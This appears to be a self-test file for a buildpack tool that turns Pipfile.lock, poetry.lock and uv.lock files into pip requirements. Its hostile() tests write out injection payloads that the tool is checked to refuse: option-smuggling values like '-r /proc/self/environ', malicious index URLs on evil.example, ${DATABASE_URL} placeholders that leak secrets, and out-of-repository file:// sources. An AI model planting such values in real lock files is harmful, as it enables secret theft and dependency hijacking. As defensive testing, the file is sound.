"""`requirements --self-test`: the conversions of bin/requirements on small lock files written
as pipenv, poetry (1.x and 2.x) and uv write them, and its refusals. Each requirement line is
also parsed as pip parses it when pip is importable."""

import json
import os
import re
import shutil
import tempfile

H1 = "sha256:" + "1" * 64
H2 = "sha256:" + "2" * 64
H3 = "sha256:" + "3" * 64

PIPFILE_LOCK = {
    "_meta": {"requires": {"python_version": "3.11"},
              "sources": [{"name": "pypi", "url": "https://pypi.org/simple", "verify_ssl": True},
                          {"name": "private", "url": "https://pkgs.example.com/simple",
                           "verify_ssl": True}]},
    "default": {
        "flask": {"hashes": [H1, H2], "index": "pypi", "markers": "python_version >= '3.9'",
                  "version": "==3.1.3"},
        "pywin32": {"hashes": [H3], "markers": "sys_platform == 'win32'", "version": "==311"},
        "uvicorn": {"extras": ["standard"], "hashes": [H1], "version": "==0.30.0"},
        "internal": {"hashes": [H2], "index": "private", "version": "==1.0"},
    },
    "develop": {"pytest": {"hashes": [H1], "version": "==8.3.4"}},
}

POETRY2_LOCK = '''
[[package]]
name = "flask"
version = "3.1.3"
optional = false
python-versions = ">=3.9"
groups = ["main"]
files = [{file = "flask-3.1.3-py3-none-any.whl", hash = "%(h1)s"}]

[[package]]
name = "colorama"
version = "0.4.6"
optional = false
python-versions = "*"
groups = ["main", "dev"]
files = [{file = "colorama-0.4.6-py2.py3-none-any.whl", hash = "%(h2)s"}]
markers = {main = "platform_system == \\"Windows\\"", dev = "sys_platform == \\"win32\\""}

[[package]]
name = "pywin32"
version = "311"
optional = false
python-versions = "*"
groups = ["main"]
markers = "sys_platform == \\"win32\\""
files = [{file = "pywin32-311-cp311-cp311-win_amd64.whl", hash = "%(h3)s"}]

[[package]]
name = "pytest"
version = "8.3.4"
optional = false
python-versions = ">=3.8"
groups = ["dev"]
files = [{file = "pytest-8.3.4-py3-none-any.whl", hash = "%(h1)s"}]

[[package]]
name = "redis"
version = "5.0.0"
optional = true
python-versions = ">=3.8"
groups = ["main"]
markers = "extra == \\"cache\\""
files = [{file = "redis-5.0.0-py3-none-any.whl", hash = "%(h1)s"}]

[[package]]
name = "blinker"
version = "1.9.0"
optional = false
python-versions = ">=3.9"
groups = ["main"]
files = [{file = "blinker-1.9.0-py3-none-any.whl", hash = "%(h2)s"}]

[package.source]
type = "url"
url = "https://files.example.com/blinker-1.9.0-py3-none-any.whl"
%(more)s
[metadata]
lock-version = "2.1"
python-versions = ">=3.11"
content-hash = "x"
''' % {"h1": H1, "h2": H2, "h3": H3, "more": "%(more)s"}

POETRY2_SOURCES = '''
[[package]]
name = "mylib"
version = "0.1.0"
optional = false
python-versions = "*"
groups = ["main"]
files = []
develop = false

[package.source]
type = "git"
url = "https://github.com/example/mylib.git"
reference = "main"
resolved_reference = "0123456789abcdef0123456789abcdef01234567"
subdirectory = "python"

[[package]]
name = "locallib"
version = "0.1.0"
optional = false
python-versions = "*"
groups = ["main"]
files = []
develop = true

[package.source]
type = "directory"
url = "libs/locallib"

[[package]]
name = "wheelfile"
version = "1.0"
optional = false
python-versions = "*"
groups = ["main"]
files = [{file = "wheelfile-1.0-py3-none-any.whl", hash = "%s"}]

[package.source]
type = "file"
url = "dist/wheelfile-1.0-py3-none-any.whl"
''' % H3

# Poetry 1.x (lock-version 1.1): categories, hashes in [metadata.files], no markers of its
# own: they come from pyproject.toml and the dependency edges.
POETRY1_PYPROJECT = '''
[tool.poetry]
name = "old"
version = "1.0.0"
description = ""
authors = []

[tool.poetry.dependencies]
python = "^3.9"
flask = "^3.1"
click = [{version = "==8.5.1", python = ">=3.10"}, {version = "==8.1.8", python = "<3.10"}]
gunicorn = {version = "*", platform = "linux"}
pywin32 = {version = "==311", markers = "sys_platform == 'win32'"}
uvicorn = {version = ">=0.30", extras = ["standard"]}
redis = {version = "*", optional = true}
django = [{version = "<5", python = "<3.10"}, {version = ">=5", python = ">=3.10"}]

[tool.poetry.dev-dependencies]
pytest = "*"

[tool.poetry.extras]
cache = ["redis"]
'''

POETRY1_LOCK = '''
[[package]]
name = "click"
version = "8.1.8"
description = ""
category = "main"
optional = false
python-versions = ">=3.7"

[package.dependencies]
colorama = {version = "*", markers = "platform_system == \\"Windows\\""}

[[package]]
name = "click"
version = "8.5.1"
description = ""
category = "main"
optional = false
python-versions = ">=3.10"

[[package]]
name = "colorama"
version = "0.4.6"
description = ""
category = "main"
optional = false
python-versions = "*"

[[package]]
name = "flask"
version = "3.1.3"
description = ""
category = "main"
optional = false
python-versions = ">=3.9"

[package.dependencies]
click = ">=8.1.3"
importlib-metadata = {version = ">=3.6.0", markers = "python_version < \\"3.10\\""}

[[package]]
name = "importlib-metadata"
version = "8.7.1"
description = ""
category = "main"
optional = false
python-versions = ">=3.9"

[package.dependencies]
zipp = ">=3.20"

[[package]]
name = "zipp"
version = "3.23.1"
description = ""
category = "main"
optional = false
python-versions = ">=3.9"

[[package]]
name = "gunicorn"
version = "27.0.1"
description = ""
category = "main"
optional = false
python-versions = ">=3.10"

[[package]]
name = "pywin32"
version = "311"
description = ""
category = "main"
optional = false
python-versions = "*"

[[package]]
name = "uvicorn"
version = "0.30.0"
description = ""
category = "main"
optional = false
python-versions = ">=3.8"

[package.dependencies]
h11 = ">=0.8"
uvloop = {version = ">=0.15.1", optional = true, markers = "(sys_platform != \\"win32\\" and sys_platform != \\"cygwin\\") and platform_python_implementation != \\"PyPy\\" and extra == \\"standard\\""}
watchfiles = {version = ">=0.13", optional = true, markers = "extra == \\"standard\\""}

[package.extras]
standard = ["uvloop (>=0.15.1)", "watchfiles (>=0.13)"]

[[package]]
name = "h11"
version = "0.16.0"
description = ""
category = "main"
optional = false
python-versions = ">=3.8"

[[package]]
name = "uvloop"
version = "0.23.0"
description = ""
category = "main"
optional = true
python-versions = ">=3.8"

[[package]]
name = "watchfiles"
version = "1.3.0"
description = ""
category = "main"
optional = true
python-versions = ">=3.9"

[[package]]
name = "redis"
version = "5.0.0"
description = ""
category = "main"
optional = true
python-versions = ">=3.8"

[[package]]
name = "django"
version = "4.2.30"
description = ""
category = "main"
optional = false
python-versions = ">=3.8"

[package.dependencies]
sqlparse = ">=0.3.1"

[[package]]
name = "django"
version = "5.2.19"
description = ""
category = "main"
optional = false
python-versions = ">=3.10"

[package.dependencies]
sqlparse = ">=0.3.1"

[[package]]
name = "sqlparse"
version = "0.5.5"
description = ""
category = "main"
optional = false
python-versions = ">=3.8"

[[package]]
name = "sqlparse"
version = "0.6.1"
description = ""
category = "main"
optional = false
python-versions = ">=3.10"

[[package]]
name = "pytest"
version = "8.3.4"
description = ""
category = "dev"
optional = false
python-versions = ">=3.8"

[metadata]
lock-version = "1.1"
python-versions = "^3.9"
content-hash = "x"

[metadata.files]
click = [
    {file = "click-8.1.8-py3-none-any.whl", hash = "%(h1)s"},
    {file = "click-8.5.1-py3-none-any.whl", hash = "%(h2)s"},
]
colorama = [{file = "colorama-0.4.6-py2.py3-none-any.whl", hash = "%(h1)s"}]
flask = [{file = "flask-3.1.3-py3-none-any.whl", hash = "%(h1)s"}]
importlib-metadata = [{file = "importlib_metadata-8.7.1-py3-none-any.whl", hash = "%(h1)s"}]
zipp = [{file = "zipp-3.23.1-py3-none-any.whl", hash = "%(h1)s"}]
gunicorn = [{file = "gunicorn-27.0.1-py3-none-any.whl", hash = "%(h2)s"}]
pywin32 = [{file = "pywin32-311-cp311-cp311-win_amd64.whl", hash = "%(h3)s"}]
uvicorn = [{file = "uvicorn-0.30.0-py3-none-any.whl", hash = "%(h1)s"}]
h11 = [{file = "h11-0.16.0-py3-none-any.whl", hash = "%(h1)s"}]
uvloop = [{file = "uvloop-0.23.0.tar.gz", hash = "%(h1)s"}]
watchfiles = [{file = "watchfiles-1.3.0.tar.gz", hash = "%(h1)s"}]
redis = [{file = "redis-5.0.0-py3-none-any.whl", hash = "%(h1)s"}]
django = [
    {file = "django-4.2.30-py3-none-any.whl", hash = "%(h1)s"},
    {file = "django-5.2.19-py3-none-any.whl", hash = "%(h2)s"},
]
sqlparse = [
    {file = "sqlparse-0.5.5-py3-none-any.whl", hash = "%(h1)s"},
    {file = "sqlparse-0.6.1-py3-none-any.whl", hash = "%(h2)s"},
]
pytest = [{file = "pytest-8.3.4-py3-none-any.whl", hash = "%(h1)s"}]
''' % {"h1": H1, "h2": H2, "h3": H3}

UV_LOCK = '''
version = 1
revision = 3
requires-python = ">=3.9"
resolution-markers = [
    "python_full_version >= '3.10'",
    "python_full_version < '3.10'",
]

[[package]]
name = "app"
version = "1.0.0"
source = { virtual = "." }
dependencies = [
    { name = "click", version = "8.1.8", source = { registry = "https://pypi.org/simple" }, marker = "python_full_version < '3.10'" },
    { name = "click", version = "8.5.1", source = { registry = "https://pypi.org/simple" }, marker = "python_full_version >= '3.10'" },
    { name = "pywin32", marker = "sys_platform == 'win32'" },
    { name = "uvicorn", extra = ["standard"] },
    %(root_more)s
]

[package.optional-dependencies]
cache = [{ name = "redis" }]

[package.dev-dependencies]
dev = [{ name = "pytest" }]

[[package]]
name = "click"
version = "8.1.8"
source = { registry = "https://pypi.org/simple" }
resolution-markers = ["python_full_version < '3.10'"]
dependencies = [{ name = "colorama", marker = "sys_platform == 'win32'" }]
sdist = { url = "https://files.example.com/click-8.1.8.tar.gz", hash = "%(h1)s", size = 1 }
wheels = [{ url = "https://files.example.com/click-8.1.8-py3-none-any.whl", hash = "%(h2)s", size = 1 }]

[[package]]
name = "click"
version = "8.5.1"
source = { registry = "https://pypi.org/simple" }
resolution-markers = ["python_full_version >= '3.10'"]
sdist = { url = "https://files.example.com/click-8.5.1.tar.gz", hash = "%(h1)s", size = 1 }

[[package]]
name = "colorama"
version = "0.4.6"
source = { registry = "https://pypi.org/simple" }
wheels = [{ url = "https://files.example.com/colorama-0.4.6-py2.py3-none-any.whl", hash = "%(h3)s", size = 1 }]

[[package]]
name = "pywin32"
version = "311"
source = { registry = "https://pypi.org/simple" }
wheels = [{ url = "https://files.example.com/pywin32-311-cp311-cp311-win_amd64.whl", hash = "%(h3)s", size = 1 }]

[[package]]
name = "uvicorn"
version = "0.30.0"
source = { registry = "https://pypi.org/simple" }
dependencies = [{ name = "h11" }]
sdist = { url = "https://files.example.com/uvicorn-0.30.0.tar.gz", hash = "%(h1)s", size = 1 }

[package.optional-dependencies]
standard = [{ name = "uvloop", marker = "platform_python_implementation != 'PyPy' and sys_platform != 'win32'" }]

[[package]]
name = "h11"
version = "0.16.0"
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://files.example.com/h11-0.16.0.tar.gz", hash = "%(h1)s", size = 1 }

[[package]]
name = "uvloop"
version = "0.23.0"
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://files.example.com/uvloop-0.23.0.tar.gz", hash = "%(h1)s", size = 1 }

[[package]]
name = "redis"
version = "5.0.0"
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://files.example.com/redis-5.0.0.tar.gz", hash = "%(h1)s", size = 1 }

[[package]]
name = "pytest"
version = "8.3.4"
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://files.example.com/pytest-8.3.4.tar.gz", hash = "%(h1)s", size = 1 }
%(more)s
'''

UV_SOURCES = '''
[[package]]
name = "mylib"
version = "0.1.0"
source = { git = "https://github.com/example/mylib?subdirectory=python&rev=v0.1#0123456789abcdef0123456789abcdef01234567" }

[[package]]
name = "member"
version = "0.2.0"
source = { editable = "packages/member" }
dependencies = [{ name = "internal" }]

[[package]]
name = "internal"
version = "1.0"
source = { registry = "https://pkgs.example.com/simple" }
sdist = { url = "https://pkgs.example.com/internal-1.0.tar.gz", hash = "%(h2)s", size = 1 }

[[package]]
name = "archived"
version = "2.0"
source = { url = "https://files.example.com/archived-2.0.tar.gz" }
sdist = { hash = "%(h3)s" }
'''


def uv_app(packages, root_deps):
    """A uv.lock whose project depends on `root_deps` (TOML inline tables)."""
    return ('version = 1\n\n[[package]]\nname = "app"\nversion = "0.1.0"\n'
            'source = { virtual = "." }\ndependencies = [%s]\n%s' % (root_deps, packages))


def uv_package(name, source, more=""):
    return '\n[[package]]\nname = "%s"\nversion = "1.0"\nsource = %s\n%s\n' % (name, source, more)


def hostile(check, reqs, refusal, app, tmp):
    """Locks as an attacker would push them: every value that would reach pip as an option,
    a line of its own or a `${VAR}` is refused, naming the package and the file; file: URLs
    outside the repository are refused as paths are; graphs that double their markers at each
    layer end at once; the scripts run isolated from the app's modules."""
    import subprocess
    import sys
    import time

    def refused_with(files, *expected, what):
        msg = refusal(files)
        check(msg and all(e in msg for e in expected), what, msg or "(not refused)")
        check(not any(c in msg for c in "\n\r\x1b\x07"), what + ": the message is one clean "
              "line", repr(msg))

    good = {"version": "==1.0", "hashes": [H1]}

    # Pipfile.lock: a name that is an option (pip printed the environment: config vars).
    refused_with({"Pipfile.lock": {"default": {"-r /proc/self/environ": {"version": ""}}}},
                 "Pipfile.lock: the package -r /proc/self/environ has a name that is not a "
                 "PEP 508 name", what="a name that is pip's -r option")
    refused_with({"Pipfile.lock": {"default": {"\x1b[2J\x1b]0;owned\x07x": {"path": "/etc"}}}},
                 "Pipfile.lock: the package \\x1b[2J", "not a PEP 508 name",
                 what="a name with terminal escapes, quoted escaped")
    # ... a marker, a version, a hash or extras with a line break: options of their own.
    for field, value, said in [
            ("markers", "python_version >= '3'\n--index-url https://evil.example/simple",
             "flask's environment marker"),
            ("markers", "python_version >= '3'\r--trusted-host evil.example",
             "flask's environment marker"),
            ("markers", "python_version >= '3'\u2028--index-url https://evil.example/simple",
             "flask's environment marker"),
            ("markers", "python_version >= '3' --index-url https://evil.example/simple",
             "flask's environment marker"),
            ("markers", "python_version >= '3' --hash=sha256:" + "0" * 64,
             "flask's environment marker"),
            ("markers", "python_version >= '3' \\", "flask's environment marker"),
            ("markers", "python_version >= '3' # \\", "flask's environment marker"),
            ("markers", "os_name == 'posix' @ https://evil.example/x.whl",
             "is not a PEP 508 marker"),
            ("version", "==1.0\n-c /etc/passwd", "flask's version"),
            ("version", "==1.0 --hash=sha256:00", "flask's version"),
            ("version", "", None),
            ("version", ">=1.0", "flask's version >=1.0 is not a PEP 440 version"),
            ("hashes", ["sha256:aa\n--find-links https://evil.example/"], "flask's hash"),
            ("hashes", ["sha256:AA ; x"], "flask's hash"),
            ("extras", ["standard]\n-r /etc/passwd"], "extra"),
            ("extras", ["a,b"], "extra")]:
        spec = dict(good, **{field: value})
        if said is None:
            heads, _, _ = reqs({"Pipfile.lock": {"default": {"flask": spec}}})
            check(heads == ["flask"], "Pipfile.lock: an empty version is no pin", repr(heads))
            continue
        refused_with({"Pipfile.lock": {"default": {"flask": spec}}}, "Pipfile.lock: ", said,
                     what="Pipfile.lock: %s %r refused" % (field, value))
    refused_with({"Pipfile.lock": {"default": {"x": {"path": "d\n--index-url https://evil/"},
                                               "y": good}}},
                 "Pipfile.lock: x's path", "line break", what="a path with a line break")
    refused_with({"Pipfile.lock": {"default": {"x": {"path": "-r/etc/passwd"}}}},
                 "starts with -", what="a path that is an option")
    refused_with({"Pipfile.lock": {"default": {"mylib": {
        "git": "https://github.com/example/mylib.git", "ref": "main\n-r /etc/passwd"}}}},
        "Pipfile.lock: mylib's git reference", what="a git ref with a line break")
    refused_with({"Pipfile.lock": {"default": {"mylib": {
        "git": "https://github.com/example/mylib.git", "ref": "main --config-settings=x"}}}},
        "mylib's git reference", what="a git ref with an option")
    refused_with({"Pipfile.lock": {"default": {"mylib": {
        "git": "https://github.com/example/mylib.git", "ref": "0" * 40,
        "subdirectory": "a\n--index-url https://evil/"}}}},
        "mylib's subdirectory", what="a subdirectory with a line break")
    refused_with({"Pipfile.lock": {
        "_meta": {"sources": [{"name": "evil", "url": "https://x/simple\n-r /etc/passwd"}]},
        "default": {"flask": dict(good, index="evil")}}},
        "Pipfile.lock: flask's index URL", what="an index URL with a line break")
    refused_with({"Pipfile.lock": {"default": {"x": {"file": "https://evil/x.whl\n-r /x"}}}},
                 "Pipfile.lock: x's", "line break", what="a URL with a line break")

    # ${VAR}: pip would send a config var to the lock's host.
    refused_with({"uv.lock": uv_app(uv_package(
        "x", '{ url = "https://evil.example/${DATABASE_URL}/x-1.0-py3-none-any.whl" }',
        'wheels = [{ url = "https://evil.example/x.whl", hash = "%s" }]' % H1),
        '{ name = "x" }')},
                 "uv.lock: x's URL", "contains ${", what="uv: a URL with ${DATABASE_URL}")
    refused_with({"Pipfile.lock": {
        "_meta": {"sources": [{"name": "p", "url": "https://${PIP_USER}:${SECRET}@evil/simple"}]},
        "default": {"flask": dict(good, index="p")}}},
        "flask's index URL", "contains ${", what="Pipfile.lock: an index with ${SECRET}")
    refused_with({"Pipfile.lock": {"default": {"flask": dict(
        good, markers="platform_release == '${SECRET}'")}}},
        "flask's environment marker", "contains ${", what="a marker with ${SECRET}")
    _, _, text = reqs({"uv.lock": uv_app(uv_package(
        "x", '{ url = "https://files.example.com/$HOME/x-1.0-py3-none-any.whl" }',
        'wheels = [{ url = "https://files.example.com/x.whl", hash = "%s" }]' % H1),
        '{ name = "x" }')})
    check("x @ https://files.example.com/%24HOME/x-1.0-py3-none-any.whl" in text
          and "$" not in text, "a $ in a URL is percent-encoded", text)

    # uv: a registry or a git URL with a line break (urlsplit would drop it silently).
    refused_with({"uv.lock": uv_app(uv_package(
        "flask", '{ registry = "https://pypi.org/simple\\n--trusted-host evil.example\\n'
        '-r /etc/passwd" }', 'sdist = { url = "https://x/f.tar.gz", hash = "%s" }' % H1),
        '{ name = "flask" }')}, "uv.lock: flask's index URL", "line break",
        what="uv: a registry with a line break")
    refused_with({"uv.lock": uv_app(uv_package(
        "mylib", '{ git = "https://github.com/example/mylib\\n--index-url=https://evil/#%s" }'
        % ("0" * 40)), '{ name = "mylib" }')}, "uv.lock: mylib's git URL", "line break",
        what="uv: a git URL with a line break")
    refused_with({"uv.lock": uv_app(uv_package(
        "flask", '{ registry = "https://pypi.org/simple" }',
        'version = "1.0\\n-r /etc/passwd"'), '{ name = "flask" }').replace(
            'version = "1.0"\nsource = { registry', 'source = { registry')},
        "uv.lock: flask's version", what="uv: a version with a line break")
    refused_with({"uv.lock": uv_app(uv_package(
        "flask", '{ registry = "https://pypi.org/simple" }',
        'sdist = { url = "https://x/f.tar.gz", hash = "sha256:aa\\n-r /etc/passwd" }'),
        '{ name = "flask" }')}, "uv.lock: flask's hash", what="uv: a hash with a line break")
    refused_with({"uv.lock": uv_app(
        uv_package("flask", '{ registry = "https://pypi.org/simple" }'),
        '{ name = "flask", marker = "os_name == \'posix\'\\n--index-url https://evil/" }')},
        "uv.lock: flask's environment marker", what="uv: an edge marker with a line break")

    # poetry.lock: Poetry 1's platform and a Poetry 2 marker.
    refused_with({"poetry.lock": '[[package]]\nname = "flask"\nversion = "3.0.0"\n'
                                 'python-versions = ">=3.8"\nfiles = [{file = "f.whl", hash = '
                                 '"%s"}]\n[metadata]\nlock-version = "2.0"\n' % H1,
                  "pyproject.toml": '[tool.poetry.dependencies]\npython = "^3.8"\nflask = '
                                    '{version = "*", platform = "linux\\"\\n--index-url '
                                    'https://evil.example/simple\\n#"}\n'},
                 "pyproject.toml: flask's platform",
                 what="Poetry 1: a platform with a line break")
    refused_with({"poetry.lock": POETRY2_LOCK.replace(
        'markers = "sys_platform == \\"win32\\""',
        'markers = "sys_platform == \\"win32\\"\\n--index-url https://evil/"') % {"more": ""},
        "pyproject.toml": "[project]\nname = 'x'\n"},
        "poetry.lock: pywin32's environment marker", what="Poetry 2: a marker with a line break")
    refused_with({"poetry.lock": POETRY2_LOCK.replace(
        'url = "https://files.example.com/blinker-1.9.0-py3-none-any.whl"',
        'url = "file:///etc/blinker-1.9.0-py3-none-any.whl"') % {"more": ""},
        "pyproject.toml": "[project]\nname = 'x'\n"},
        "poetry.lock: blinker comes from /etc/blinker-1.9.0-py3-none-any.whl, outside the app's "
        "repository", what="Poetry: a url source with file:// outside the repository")

    # pyproject.toml's dependencies: options and lines are not dependencies.
    for dep, said in [("--index-url https://evil.example/simple", "starts with -"),
                      ("-e git+https://evil.example/x.git#egg=x", "starts with -"),
                      ("-r /proc/self/environ", "starts with -"),
                      ("flask\n--index-url https://evil.example/simple", "line break"),
                      ("flask -r /proc/self/environ", "not a PEP 508 requirement"),
                      ("flask \\", "not a PEP 508 requirement"),
                      ("x @ https://evil.example/${DATABASE_URL}/x.whl", "contains ${"),
                      ("x @ file:///etc/x.whl", "outside the app's repository")]:
        refused_with({"pyproject.toml": "[project]\ndependencies = %s\n" % json.dumps([dep])},
                     "pyproject.toml: ", said, what="pyproject.toml dependency %r" % dep)

    # file: URLs obey the rule of paths: outside the repository is refused.
    refused_with({"uv.lock": uv_app(uv_package("x", '{ url = "file:///etc/x.whl" }'),
                                    '{ name = "x" }')},
                 "uv.lock: x comes from /etc/x.whl, outside the app's repository",
                 what="uv: a file:// URL outside the repository")
    refused_with({"uv.lock": uv_app(uv_package(
        "y", '{ git = "file:///srv/other/repo.git#%s" }' % ("0" * 40)), '{ name = "y" }')},
        "uv.lock: y comes from /srv/other/repo.git, outside the app's repository",
        what="uv: a git+file:// URL outside the repository")
    refused_with({"Pipfile.lock": {"default": {"y": {"git": "file:///srv/other/repo.git",
                                                     "ref": "0" * 40}}}},
                 "outside the app's repository", what="Pipfile.lock: git+file outside")
    heads, _, text = reqs({"uv.lock": uv_app(uv_package(
        "x", '{ url = "file:dist/x-1.0-py3-none-any.whl" }',
        'wheels = [{ url = "file://x", hash = "%s" }]' % H1), '{ name = "x" }'),
        "dist/x-1.0-py3-none-any.whl": "zip"})
    check(len(heads) == 1 and "\nx @ file://APP/dist/x-1.0-py3-none-any.whl \\\n" in text
          and "# hashes: on" in text,
          "uv: a file: URL inside the repository is installed, with its hash", text)

    # A private index's package must have hashes (pip also looks on PyPI: dependency
    # confusion); with them, the index is the hashed run's only.
    refused_with({"Pipfile.lock": {
        "_meta": {"sources": [{"name": "corp", "url": "https://pypi.corp.example/simple"}]},
        "default": {"corp-internal": {"version": "==1.4.0", "index": "corp"}}}},
        "Pipfile.lock: corp-internal comes from the index https://pypi.corp.example/simple, but "
        "corp-internal has no hash in the lock", "PyPI",
        what="an unhashed package from a private index is refused")
    heads, hashes, text = reqs({"Pipfile.lock": {
        "_meta": {"sources": [{"name": "corp", "url": "https://pypi.corp.example/simple"}]},
        "default": {"corp-internal": {"version": "==1.4.0", "index": "corp", "hashes": [H1]},
                    "requests": {"version": "==2.32.3", "hashes": [H2]},
                    "mylib": {"git": "https://github.com/corp/mylib.git", "ref": "0" * 40}}}})
    first, _, second = text.partition("\n# without hashes:\n")
    check(hashes.startswith("# hashes: split: 2 with hashes; 1 without: mylib comes from git")
          and "--extra-index-url https://pypi.corp.example/simple" in first
          and "--hash=%s" % H1 in first and "--hash=%s" % H2 in first
          and second.strip() == "mylib @ git+https://github.com/corp/mylib.git@" + "0" * 40,
          "one git package leaves the others hashed, the index with them", text)

    # Markers that double at each layer: capped, so it ends at once, with a note.
    layers = 14
    pkgs = "".join(uv_package("p%d" % i, '{ registry = "https://pypi.org/simple" }',
                              'sdist = { url = "https://x/p.tar.gz", hash = "%s" }\n' % H1 +
                              ('dependencies = [{ name = "p%d", marker = "os_name == \'a%d\'" }, '
                               '{ name = "p%d", marker = "os_name == \'b%d\'" }]'
                               % (i + 1, i, i + 1, i) if i + 1 < layers else ""))
                   for i in range(layers))
    started = time.monotonic()
    heads, hashes, text = reqs({"uv.lock": uv_app(pkgs, '{ name = "p0" }')})
    took = time.monotonic() - started
    check(took < 10 and len(heads) == layers and
          "# note: p7 is reached by more than 64 combinations of markers: installed without one"
          in text and "p7==1.0" in heads
          and "p8==1.0 ; os_name == 'a7' or os_name == 'b7'" in heads,
          "markers doubling over %d layers: capped (%.1f s)" % (layers, took), text[:2000])
    # ... and a graph whose every package depends on every later one, each edge with its own
    # marker, is refused at once for the work it would take (run apart, so that a regression
    # fails this check rather than hanging the self-test).
    n = 80
    pkgs = "".join(uv_package("p%d" % i, '{ registry = "https://pypi.org/simple" }',
                              'dependencies = [%s]' % ", ".join(
                                  '{ name = "p%d", marker = "os_name == \'e%d_%d\'" }' % (j, i, j)
                                  for j in range(i + 1, n)) if i + 1 < n else "")
                   for i in range(n))
    d = app({"uv.lock": uv_app(pkgs, '{ name = "p0" }')})
    script = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "bin", "requirements")
    started = time.monotonic()
    try:
        out = subprocess.run([sys.executable, "-I", script, d], capture_output=True, text=True,
                             timeout=60)
        said = out.stderr
    except subprocess.TimeoutExpired:
        said = "(still running after 60 s)"
    took = time.monotonic() - started
    check("uv.lock: the markers of the dependency graph are too tangled to follow" in said
          and took < 30, "a dense graph of markers refused in bounded time (%.1f s)" % took,
          said)
    pcyc = ('[[package]]\nname = "a"\nversion = "1"\npython-versions = "*"\n'
            '[package.dependencies]\nb = {version="*", markers="os_name == \'x\'"}\n'
            '[[package]]\nname = "b"\nversion = "1"\npython-versions = "*"\n'
            '[package.dependencies]\na = "*"\nb = "*"\n[metadata]\nlock-version = "1.1"\n'
            '[metadata.files]\na = []\nb = []\n')
    heads, _, _ = reqs({"poetry.lock": pcyc, "pyproject.toml": '[tool.poetry.dependencies]\n'
                                                               'python = "^3.8"\na = "*"\n'})
    check(heads == ["a==1", "b==1 ; os_name == 'x'"], "poetry: a cycle ends", repr(heads))

    # pip's output read in bounded time: `^\s+` over 40,000 blank lines took 20 s (it was
    # quadratic), and only the end of a long log is read, each line cut.
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    import pip_failure
    log = os.path.join(tmp, "pip.log")
    with open(log, "w") as f:
        f.write("Collecting x\n" + " \n" * 30000 + "\t\t\n" * 10000 +
                "Failed building wheel for x\nDO NOT MATCH THE HASHES\n")
    started = time.monotonic()
    with open(log, "rb") as f:
        said = pip_failure.explain(pip_failure.tail(f), "uv.lock", "3.11.7")
    took = time.monotonic() - started
    check(took < 5 and said[0].startswith("pip refused"),
          "pip_failure reads blank lines in linear time (%.1f s)" % took, repr(said[:1]))
    with open(log, "w") as f:
        f.write(("x" * 9999 + "\n") * 300 + "ERROR: the last line\n")
    with open(log, "rb") as f:
        read = pip_failure.tail(f)
    check(len(read) <= pip_failure.MAX_LOG and read.endswith("ERROR: the last line\n")
          and max(map(len, read.split("\n"))) <= pip_failure.MAX_LINE,
          "pip_failure reads the last MB of the log, lines cut", "%d chars" % len(read))

    # The buildpack's own Python is isolated from the app's modules: a json.py or re.py at
    # the app's root (the working directory of bin/release) changes nothing.
    bin_dir = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "bin")
    d = app({"requirements.txt": "gunicorn\n", "app.py": "app = Flask(__name__)\n",
             "json.py": "def dumps(s):\n    return '\"x\"\\nconfig_vars:\\n  A: 1'\n",
             "re.py": "raise SystemExit('re.py of the app')\n"})
    out = subprocess.run(["bash", os.path.join(bin_dir, "release"), d], cwd=d,
                         capture_output=True, text=True, env=dict(os.environ, PYTHONPATH=d))
    check(out.stdout == '---\ndefault_process_types:\n  web: "gunicorn --bind 0.0.0.0:$PORT '
          'app:app"\n', "bin/release ignores the app's json.py and re.py",
          out.stdout + out.stderr)


def run(requirements, refused):
    passed, failed = 0, 0

    def check(ok, what, detail=""):
        nonlocal passed, failed
        if ok:
            passed += 1
        else:
            failed += 1
            print("FAILED: %s%s" % (what, "\n" + detail if detail else ""))

    try:
        from pip._vendor.packaging.requirements import Requirement as PipRequirement
    except ImportError:
        PipRequirement = None

    tmp = tempfile.mkdtemp(prefix="requirements-test-")

    def app(files):
        d = tempfile.mkdtemp(dir=tmp)
        for name, text in files.items():
            path = os.path.join(d, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(text if isinstance(text, str) else json.dumps(text))
        return d

    def reqs(files):
        """(requirement lines without hashes, hashes line, whole text) of an app."""
        d = app(files)
        text = requirements(d)
        joined = text.replace(" \\\n", " ")
        lines = [ln for ln in joined.splitlines() if ln and not ln.startswith(("#", "--"))]
        heads = [re.sub(r"\s+--hash=\S+", "", ln) for ln in lines]
        if PipRequirement is not None:
            for h in heads:
                try:
                    PipRequirement(h)
                except Exception as e:  # noqa: BLE001 - any parse failure fails the check
                    check(False, "pip cannot parse %r: %s" % (h, e))
        hashes = next((ln for ln in text.splitlines() if ln.startswith("# hashes:")), "")
        return heads, hashes, text.replace(d, "APP")

    def refusal(files):
        try:
            requirements(app(files))
        except refused as e:
            return str(e)
        return ""

    try:
        # Pipfile.lock: markers kept, extras, a private index, develop left out, hashes on.
        heads, hashes, text = reqs({"Pipfile.lock": PIPFILE_LOCK})
        check(heads == ["flask==3.1.3 ; python_version >= '3.9'", "internal==1.0",
                        "pywin32==311 ; sys_platform == 'win32'", "uvicorn[standard]==0.30.0"],
              "Pipfile.lock's requirements", "\n".join(heads))
        check(hashes == "# hashes: on", "Pipfile.lock hashed", hashes)
        check("--hash=%s" % H3 in text and "--extra-index-url https://pkgs.example.com/simple"
              in text, "Pipfile.lock's hashes and index", text)
        check(text.startswith("# from Pipfile.lock\n"), "first line names the source", text)

        # ... a git source: pip's form, and no hashes at all (pip would refuse some).
        lock = json.loads(json.dumps(PIPFILE_LOCK))
        lock["default"]["mylib"] = {"git": "https://github.com/example/mylib.git",
                                    "ref": "0123456789abcdef0123456789abcdef01234567",
                                    "markers": "python_version >= '3.9'"}
        lock["default"]["locallib"] = {"path": "./libs/locallib", "editable": True}
        heads, hashes, text = reqs({"Pipfile.lock": lock, "libs/locallib/setup.py": "# lib\n"})
        check("mylib @ git+https://github.com/example/mylib.git@0123456789abcdef0123456789abcdef"
              "01234567 ; python_version >= '3.9'" in heads, "Pipfile.lock git", "\n".join(heads))
        check("locallib @ file://APP/libs/locallib" in text.replace(" \\\n", " "),
              "Pipfile.lock path", text)
